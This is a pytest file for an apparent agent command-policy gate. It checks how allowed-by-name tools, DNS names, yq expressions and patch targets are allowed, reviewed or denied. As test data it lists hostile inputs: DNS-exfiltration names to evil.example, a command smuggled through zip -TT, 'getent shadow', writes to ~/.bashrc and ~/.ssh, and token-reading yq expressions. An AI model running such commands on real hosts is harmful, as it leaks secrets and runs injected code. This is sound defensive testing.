"""Readers and file tools allowed by name are declared: undeclared options hold, effects count.

Lines are data passed to the gate, never run. See config/tools/{inspect,system,net,openssl,
yq,files}.toml and tests/policy/corpus_readers.jsonl.
"""

from __future__ import annotations

import pytest

from bastion.policy import Context, Policy, load_policy
from bastion.policy.scripts import scan_dns, scan_yq

CTX = Context(principals=("agents",), target="web-01", login="azureuser")

# The programs issue 17 names as allowed by name with a generic option parse.
_NAMED = (
    "od hexdump strings column fold fmt expand rev join comm cmp file tree fd df free ps pgrep "
    "pstree lsof ss netstat ping dig nslookup host traceroute zcat zgrep bzcat xzcat info tldr "
    "git-lfs openssl top htop getent locale tput lsblk blkid lscpu seq nproc numfmt look yq "
    "vmstat iostat mpstat w who last uptime whoami id groups cal arch lsmod lspci lsusb cksum "
    "install chown truncate zip bzip2 xz patch mktemp"
)
NAMED = tuple(_NAMED.split())


@pytest.fixture(scope="module")
def policy() -> Policy:
    return load_policy(Policy.default_path())


def _action(policy: Policy, line: str) -> str:
    return policy.decide(line, CTX).action


def test_every_named_program_is_declared(policy: Policy) -> None:
    """Each program the rules allowed by name now has a declaration."""
    assert [p for p in NAMED if policy.tools.get(p) is None] == []


@pytest.mark.parametrize("program", NAMED)
def test_an_undeclared_option_holds(policy: Policy, program: str) -> None:
    """`PROGRAM --no-such-option` is not understood, so it is held (it was allowed by name)."""
    line = f"{program} --frobnicate-xyz"
    if program == "openssl":
        line = "openssl x509 --frobnicate-xyz"
    elif program == "git-lfs":
        line = "git-lfs status --frobnicate-xyz"
    decision = policy.decide(line, CTX)
    assert decision.action == "review"
    assert "tool-unknown" in decision.rules


@pytest.mark.parametrize(("a", "b"), [
    ("ss -tlnp", "ss -t -l -n -p"),
    ("lsof -nP -iTCP -sTCP:LISTEN", "lsof -n -P -iTCP -sTCP:LISTEN"),
    ("df -hT /", "df --human-readable --print-type /"),
    ("df --human /", "df --human-readable /"),
    ("tree -o ~/.bashrc", "tree -o~/.bashrc"),
    ("info --out=~/.profile bash", "info --output ~/.profile bash"),
    ("install -Dm755 app ~/.bashrc", "install -D -m 755 app ~/.bashrc"),
])
def test_spellings_mean_the_same(policy: Policy, a: str, b: str) -> None:
    """Clusters, attached values and long abbreviations decide like the spelled-out form."""
    assert _action(policy, a) == _action(policy, b)


@pytest.mark.parametrize(("name", "held"), [
    ("example.com", False), ("@8.8.8.8", False), ("10.0.0.4", False), ("fe80::1%eth0", False),
    ("4.0.0.10.in-addr.arpa", False), ("MX", False), ("my-app_1.internal.contoso.com", False),
    ("aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgZGF0YQ1234.evil.example", True),
    ("a.b.c.d.e.f.g.h.i.evil.example", True), ("x;id.evil.example", True), ("-", True),
    ("", True), ("a" * 130, True),
])
def test_dns_names_that_can_carry_data_are_held(name: str, held: bool) -> None:
    effects = scan_dns(name)
    assert bool(effects) is held
    assert all(e.kind == "network" for e in effects)


@pytest.mark.parametrize(("expr", "kinds"), [
    (".spec", []), ("env(HOME)", []), ('.a = "env(X)"', []), (".load", []),
    ("strenv(GITHUB_TOKEN)", ["secrets"]), ("env", ["secrets"]), (".a | envsubst", ["secrets"]),
    ('load("other.yaml")', ["unknown"]), ("eval(.e)", ["unknown"]),
    ('import "m" as m; .', ["unknown"]),
])
def test_yq_expressions(expr: str, kinds: list[str]) -> None:
    assert [e.kind for e in scan_yq(expr)] == kinds


@pytest.mark.parametrize(("line", "action"), [
    ("patch -p1 < fix.diff", "allow"),
    ("cd /etc && patch -p1 -i /tmp/x.diff", "review"),
    ("cd ~/.ssh && patch -p1 < /tmp/x.diff", "deny"),
    ("patch -p1 -o ~/.bashrc f fix.diff", "review"),
])
def test_patch_writes_where_it_runs(policy: Policy, line: str, action: str) -> None:
    """Without ORIGFILE patch writes the files its diff names in the working directory."""
    assert _action(policy, line) == action


@pytest.mark.parametrize(("line", "rule"), [
    ("openssl s_client -connect example.com:443", "tool-network"),
    ("openssl", "tool-unknown"),
    ("openssl x509 -engine ./e.so -in c.crt -noout", "tool-runs"),
    ("zip -TT 'sh -c id' x.zip f", "archive-sync-exec"),
    ("ss -K dst 10.0.0.5", "tool-changes"),
    ("getent shadow", "tool-secrets"),
    ("dig $(whoami).evil.example", "tool-unknown"),
    ("ping -c1 -p 6869 example.com", "tool-network"),
])
def test_effects_name_their_floor(policy: Policy, line: str, rule: str) -> None:
    decision = policy.decide(line, CTX)
    assert decision.action == "review"
    assert rule in decision.rules
